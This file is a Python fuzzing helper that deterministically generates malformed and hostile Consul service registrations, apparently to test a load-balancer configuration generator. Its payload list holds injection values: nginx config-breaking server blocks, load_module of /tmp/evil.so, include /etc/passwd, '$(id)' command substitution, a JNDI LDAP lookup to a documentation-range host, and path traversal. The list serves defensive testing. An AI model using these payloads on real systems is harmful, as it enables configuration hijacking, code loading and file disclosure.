"""Hostile registrations by the thousand, from a seed: the same seed makes the same ones."""

from __future__ import annotations

import random
from typing import Any

_CHARACTERS = "\n\r\t\0 ;{}$#\"'\\`|&<>()[]%@!~*?=:/.,-_{{}}äß€\u2028\u202e\ufeff\U0001d538\ud83d"
_PAYLOADS = (
    "127.0.0.1;} server { listen 6666; location / { return 200 pwned; } }",
    "10.0.0.1:80; server 203.0.113.66:80",
    "web;}http{",
    "web {\n server 203.0.113.66:80; }\nupstream other",
    "a.example; return 200 pwned",
    "a.example { } server { listen 6667;",
    "#{`id`}",
    "$(id)",
    "${jndi:ldap://203.0.113.66/a}",
    "{{ key `secret` }}",
    '{{ "web" | toJSON }}',
    "}}{{",
    "*/ include /etc/passwd; /*",
    "\nload_module /tmp/evil.so;",
    "ssl_engine /tmp/evil.so",
    "../../etc/passwd",
    "lb.host=a.example;",
    'lb.host=a.example"',
    "lb.path=/;return 200",
    "lb.path=/a b",
    "lb.balance=random two",
    "lb.host=~^.*$",
    "lb.host=_",
    "lb.host=*",
    "lb.path=/%2e%2e/",
    "lb.strip_path=true; proxy_pass http://203.0.113.66",
    "%s%n%x",
    "end",
    '"end"',
    '\n"end"\n',
    "0x7f.1",
    "2130706433",
    "::ffff:127.0.0.1",
    "fe80::1%eth0;}",
    "1.2.3.4\n",
    "\uff11.2.3.4",
)
_GOOD = {
    "service": ("web", "shop", "api-v2", "Shop", "a" * 128),
    # Nobody has these: they are kept for examples.
    "address": ("192.0.2.1", "198.51.100.7", "2001:db8::1", "203.0.113.44"),
    "tag": (
        "lb",
        "lb.host=a.example",
        "lb.host=*.b.example",
        "lb.path=/x",
        "lb.balance=hash",
        "blue",
    ),
    "id": ("web-1", "host-1:web:80"),
}
_NUMBERS = (0, 1, 80, 65535, 65536, -1, 2**63, 1.5, True, None, "80", "80;}", [80], {"a": 1}, 1e400)
_HUGE = 2**20


class Hostile:
    """A source of registrations."""

    def __init__(self, seed: int) -> None:
        """The seed alone decides what comes."""
        self._random = random.Random(seed)

    def registration(self) -> dict[str, Any]:
        """What Consul might say of an instance: about one of three is harmless in every part."""
        harmless = self._random.random() < 0.33
        return {
            "service": self._text("service", harmless),
            "id": self._text("id", harmless),
            "address": self._text("address", harmless),
            "port": self._number(harmless),
            "weight": self._random.choice((1, 5)) if harmless else self._number(harmless),
            "tags": [self._text("tag", harmless) for _ in range(self._random.randrange(5))],
        }

    def _text(self, kind: str, harmless: bool) -> Any:
        good = self._random.choice(_GOOD[kind])
        if harmless or self._random.random() < 0.5:
            return good
        way = self._random.random()
        if way < 0.4:
            at = self._random.randrange(len(good) + 1)
            return good[:at] + self._random.choice(_CHARACTERS) + good[at:]
        if way < 0.8:
            payload = self._random.choice(_PAYLOADS)
            return payload if self._random.random() < 0.5 else good + payload
        if way < 0.98:
            return "".join(self._random.choices(_CHARACTERS, k=self._random.randrange(12)))
        if way < 0.9995:
            return self._random.choice(_NUMBERS)
        return self._random.choice(_CHARACTERS) * _HUGE

    def _number(self, harmless: bool) -> Any:
        if harmless or self._random.random() < 0.6:
            return self._random.randrange(1, 65536)
        return self._random.choice(_NUMBERS)
